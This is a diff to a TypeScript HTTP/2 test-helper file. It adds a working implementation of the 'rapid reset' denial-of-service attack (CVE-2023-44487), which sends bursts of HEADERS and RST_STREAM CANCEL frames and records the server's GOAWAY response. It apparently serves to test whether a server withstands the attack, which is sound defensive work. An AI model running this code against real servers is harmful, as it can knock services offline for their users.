@@ -84,3 +84,46 @@ export function rawH2Request(base: string, ca: string, fields: Array<[string, st
     });
   });
 }
+
+/** The "rapid reset" attack (CVE-2023-44487): `n` streams opened and at once cancelled
+ *  (HEADERS then RST_STREAM CANCEL) in one burst on one connection. Resolves with the GOAWAY
+ *  code the server sent (null: none) and how many of those streams it began to answer. */
+export function rapidReset(base: string, ca: string, path: string, n: number, ms = 10_000): Promise<{ goaway: number | null; answered: number }> {
+  const u = new URL(base);
+  return new Promise((resolve) => {
+    let goaway: number | null = null;
+    let answered = 0;
+    let buf = Buffer.alloc(0);
+    const sock = tls.connect({ host: u.hostname, port: Number(u.port), ca, ALPNProtocols: ["h2"] }, () => {
+      const block = Buffer.concat([literal(":method", "GET"), literal(":scheme", "https"), literal(":authority", u.host), literal(":path", path)]);
+      const cancel = Buffer.alloc(4);
+      cancel.writeUInt32BE(8); // CANCEL
+      const frames = [Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(4, 0, 0, Buffer.alloc(0))];
+      for (let i = 0; i < n; i++) frames.push(frame(1, 0x1 | 0x4, 2 * i + 1, block), frame(3, 0, 2 * i + 1, cancel));
+      sock.write(Buffer.concat(frames));
+    });
+    const done = () => {
+      clearTimeout(timer);
+      sock.destroy();
+      resolve({ goaway, answered });
+    };
+    const timer = setTimeout(done, ms);
+    sock.on("error", done);
+    sock.on("close", done);
+    sock.on("data", (d: Buffer) => {
+      buf = Buffer.concat([buf, d]);
+      while (buf.length >= 9) {
+        const len = buf.readUIntBE(0, 3);
+        if (buf.length < 9 + len) break;
+        const type = buf[3];
+        const payload = buf.subarray(9, 9 + len);
+        buf = buf.subarray(9 + len);
+        if (type === 1) answered++;
+        if (type === 7) {
+          goaway = payload.readUInt32BE(4);
+          return done();
+        }
+      }
+    });
+  });
+}
